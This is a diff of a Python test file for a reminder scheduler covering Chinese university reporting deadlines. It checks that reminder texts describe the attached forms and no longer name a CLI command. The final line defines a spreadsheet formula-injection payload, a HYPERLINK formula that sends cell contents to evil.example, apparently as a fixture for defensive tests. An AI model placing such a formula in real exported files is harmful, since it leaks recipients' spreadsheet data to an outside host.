@@ -327,20 +327,22 @@ def _reminder_bodies(engine, task_key: str) -> list[str]:
         return list(connection.execute(query, {"k": task_key}).scalars())
 
 
-def test_reminders_name_the_command_that_writes_their_form(engine) -> None:
+def test_reminders_say_where_their_form_is_never_a_command(engine) -> None:
     plan, calendar = load_plan(SHIPPED_PLAN)
+    plan = plan.model_copy(update={"reminders": plan.reminders.model_copy(update={"combine": False})})
     # 12-01 is a Thursday: with `before: [2, 0]` the first reminder of 附表4 goes out on Tuesday 11-29.
     tick_at = pendulum.datetime(2016, 11, 29, 9, 30, tz="Asia/Shanghai")
     run_tick(engine, plan, calendar, Renderer("zh"), tick_at)
     (monthly,) = _reminder_bodies(engine, "monthly_report/tdc/2016-12-01")
-    assert "报表：cuiban report monthly --send" in monthly and "2016-12-01" in monthly
+    assert "附件为已填好的附表4（xlsx、docx 各一份），核对后可直接转发至河北省教育厅人事处" in monthly
+    assert "2016-12-01" in monthly and "cuiban report" not in monthly
     # 附表6 is due on Monday 12-19: one working day before is Friday 12-16.
     run_tick(
         engine, plan, calendar, Renderer("zh"), pendulum.datetime(2016, 12, 16, 9, 30, tz="Asia/Shanghai")
     )
     (audit,) = _reminder_bodies(engine, "dept_audit_paper/news")
-    assert "报表：cuiban report dept-audit --unit 新闻传播学院" in audit
-    assert not any("报表" in body for body in _reminder_bodies(engine, "dept_filling/news"))
+    assert "所需报表：附表6《数据审核报表》" in audit and "cuiban report" not in audit
+    assert not any("所需报表" in body for body in _reminder_bodies(engine, "dept_filling/news"))
 
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1)'
